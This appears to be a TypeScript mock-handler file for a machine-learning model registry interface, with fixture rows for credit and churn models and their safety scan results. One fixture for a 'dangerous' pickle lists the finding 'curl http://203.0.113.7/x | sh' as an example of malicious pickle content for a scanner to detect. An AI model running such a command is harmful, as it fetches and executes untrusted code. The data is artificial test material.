import type { ModelRow } from "$lib/api/generated/ModelRow";
import type { ModelView } from "$lib/api/generated/ModelView";
import { before, CHURN, CREDIT, digest, type Handlers, world } from "../world";
import { projects } from "./frame";

const nameOf = (project: string) => projects.find((it) => it.project.id === project)?.project.name ?? "";
const row = (project: string, path: string, more: Partial<ModelRow>): ModelRow => ({
	project, project_name: nameOf(project), path, digest: digest(path), size: 8_120_221, modified: before(60 * 26), format: "joblib", framework: "scikit-learn 1.5.2", class: "sklearn.pipeline.Pipeline", safety: "unverified", metrics: {}, labels: [], release: "not released", ...more,
});
const rows: ModelRow[] = [
	row(CREDIT, "models/scorecard_v4.onnx", { format: "onnx", framework: "skl2onnx 1.17", class: null, safety: "safe", metrics: { auc: 0.813, brier: 0.112, ks: 0.47 }, labels: ["name", "financial", "postcode"], release: "waits for approval" }),
	row(CREDIT, "models/early_warning.ubj", { format: "xgboost_ubj", framework: "XGBoost 2.1.1", class: "xgboost.sklearn.XGBClassifier", safety: "safe", metrics: { auc: 0.79 } }),
	row(CREDIT, "models/scorecard_v3.joblib", { metrics: { auc: 0.807 }, labels: ["postcode"], release: "version 3 · production" }),
	row(CREDIT, "experiments/2026/autumn/with bureau and macro overlay/hyperparameter-search-that-nobody-cleaned-up/trial_00417/model.joblib", {}),
	row(CREDIT, "models/broken.pt", { format: null, framework: null, class: null, safety: null }),
	row(CHURN, "models/churn.pkl", { format: "pickle", safety: "dangerous", class: "posix.system", framework: null }),
];

export const handlers: Handlers = {
	model_list: ({ project }) => ({ models: world.empty ? [] : rows.filter((it) => project === null || it.project === project) }),
	model_show: ({ project, path }): ModelView => {
		const it = rows.find((other) => other.project === project && other.path === path);
		if (!it) throw { code: "not_found", message: `There is no model ${path} in this project.`, hints: ["It may have been moved or deleted."] };
		const readable = it.safety !== null;
		const bad = it.safety === "dangerous";
		return {
			row: it,
			sentence: bad ? "Dangerous to load: opening the pickle runs a shell command." : readable ? "A pipeline for two classes, trained on 1,180,220 rows that contain names, incomes and postcodes; the names did not reach it." : "Nobody can tell what it is: the file could not be read.",
			facts: readable
				? {
						format: it.format ?? "", framework: it.framework?.split(" ")[0] ?? null, framework_version: it.framework?.split(" ")[1] ?? null, class: it.class,
						steps: it.class?.endsWith("Pipeline") ? ["sklearn.pipeline.Pipeline", "sklearn.compose._column_transformer.ColumnTransformer", "sklearn.preprocessing._encoders.OneHotEncoder", "sklearn.ensemble._hist_gradient_boosting.gradient_boosting.HistGradientBoostingClassifier"] : [],
						parts: it.class?.endsWith("Pipeline")
							? [
									{ name: "prepare", class: "sklearn.compose._column_transformer.ColumnTransformer", columns: null, parts: [
										{ name: "numbers", class: "sklearn.pipeline.Pipeline", columns: ["income", "amount", "bureau_score"], parts: [
											{ name: "fill", class: "sklearn.impute._base.SimpleImputer", columns: null, parts: [] },
											{ name: "scale", class: "sklearn.preprocessing._data.StandardScaler", columns: null, parts: [] },
										] },
										{ name: "categories", class: "sklearn.preprocessing._encoders.OneHotEncoder", columns: ["postcode", "عنوان الفرع", ...Array.from({ length: 40 }, (_, i) => `feature_${i}`)], parts: [] },
										{ name: "remainder", class: "drop", columns: ["age_of_account"], parts: [] },
									] },
									{ name: "classifier", class: "sklearn.ensemble._hist_gradient_boosting.gradient_boosting.HistGradientBoostingClassifier", columns: null, parts: [] },
								]
							: [],
						tensors: it.format === "onnx" ? Array.from({ length: 26 }, (_, i) => ({ name: `layer_${i}.weight`, dtype: i % 2 ? "float32" : "int64", shape: [64, i + 1] })) : null,
						parameters: bad ? {} : Object.fromEntries(Array.from({ length: 34 }, (_, i) => [`classifier__parameter_${i}`, i % 3 === 0 ? null : i % 3 === 1 ? i / 7 : ["a", "b"]])),
						features_in: null, outputs: ["label", "probabilities"], classes: bad ? null : [0, 1], signature: null, environment: { python: "3.12.4", packages: { "scikit-learn": "1.5.2", numpy: "2.1.0" } }, training: { n_iter: 214, n_features: 57 },
						safety: { verdict: it.safety ?? "unverified", reasons: it.safety === "safe" ? [] : bad ? [{ what: "posix.system", where: "byte 1042" }, { what: "curl http://203.0.113.7/x | sh", where: "byte 1060" }] : [{ what: "numpy._core.multiarray._reconstruct", where: "byte 221" }, { what: "sklearn.pipeline.Pipeline", where: "byte 12" }] },
					}
				: null,
			problem: readable ? null : "The zip directory is cut off at byte 40,112. The file was probably not written to its end; write it again.",
			features: readable && !bad ? ["income", "amount", "bureau_score", "postcode", "age_of_account", "عنوان الفرع", ...Array.from({ length: 51 }, (_, i) => `feature_${i}`)].map((name) => ({ name, labels: name === "income" ? ["financial"] : name === "postcode" ? ["postcode", "location"] : [] })) : [],
			labels: it.labels.map((label) => ({ label, group: label === "name" ? "direct" : label === "financial" ? "financial" : "quasi", column: label === "name" ? "applicant_name" : label === "financial" ? "income" : "postcode", dataset: "data/raw/applications_2026_10.parquet", reached_as: [], exact: true })),
			sources: bad ? [] : [
				{ path: "data/raw/applications_2026_09.parquet", digest: digest("s"), unchanged: true, confidence: 1, labels: ["name", "email", "postcode"] },
				{ path: "data/interim/joined/with bureau/and macro/overlay/very-long-name-of-a-join-that-somebody-made-in-a-hurry-and-never-renamed__v2__final__really-final.parquet", digest: digest("t"), unchanged: false, confidence: 0.72, labels: [] },
				{ path: "data/raw/macro.csv", digest: null, unchanged: false, confidence: 0.4, labels: [] },
			],
			written_by: bad ? [] : [{ run: "run_01930a6e-7c1a-7d3e-9b1a-000000000000", name: "train-scorecard", basis: "observed", confidence: 1 }],
			candidates: it.release === "not released" ? [] : [{ candidate: "cand_01930a6e-7c1a-7d3e-9b1a-00000000c001", state: it.release.startsWith("version") ? "published" : "waiting", version: it.release.startsWith("version") ? 3 : null, at: before(60 * 26) }],
			may_submit: bad ? { allowed: false, why: "The file is dangerous to load; such a model is never released." } : readable ? { allowed: true, why: null } : { allowed: false, why: "The file could not be read." },
		};
	},
};
